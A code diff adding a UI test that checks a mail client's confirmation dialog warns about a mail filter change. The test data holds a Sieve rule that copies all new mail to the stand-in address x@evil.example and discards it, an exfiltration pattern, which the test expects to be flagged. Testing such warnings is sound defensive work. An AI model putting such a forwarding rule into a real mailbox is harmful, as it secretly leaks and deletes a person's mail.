@@ -183,6 +183,30 @@ test("hostile text stays text and can't hide", async () => {
   expect(read()).toMatchSnapshot();
 });
 
+test("a mail filter is shown for what it does to mail", async () => {
+  const hold = sampleHold(1, {
+    class: "divert",
+    verb: "Change the mail filter",
+    keep: "Don't change it",
+    noun: ["change", "changes"],
+    objects: [],
+    partial: false,
+    retype: true,
+    audience: { members: [{ address: "x@evil.example", role: "forward", first_time: true }] },
+    facts: [
+      { label: "Script", value: "main (it runs on all new mail)" },
+      { label: "Look out", value: "Sends mail on to x@evil.example (and keeps it)\nThrows mail away" },
+      { label: "What it does", value: "Files mail into Sales, as before" },
+      { label: "New lines", value: 'redirect :copy "x@evil.example";\n  discard;' },
+    ],
+  });
+  await open(sampleConfirm(hold));
+  const warned = [...document.querySelectorAll("dd.warn")].map((element) => element.textContent?.trim());
+  expect(warned).toEqual(["Sends mail on to x@evil.example (and keeps it)\nThrows mail away"]);
+  expect(read()).toMatchSnapshot();
+  await accessible();
+});
+
 test.each(["ltr", "rtl"])("axe finds nothing, %s", async (dir) => {
   document.documentElement.dir = dir;
   document.documentElement.lang = "en";
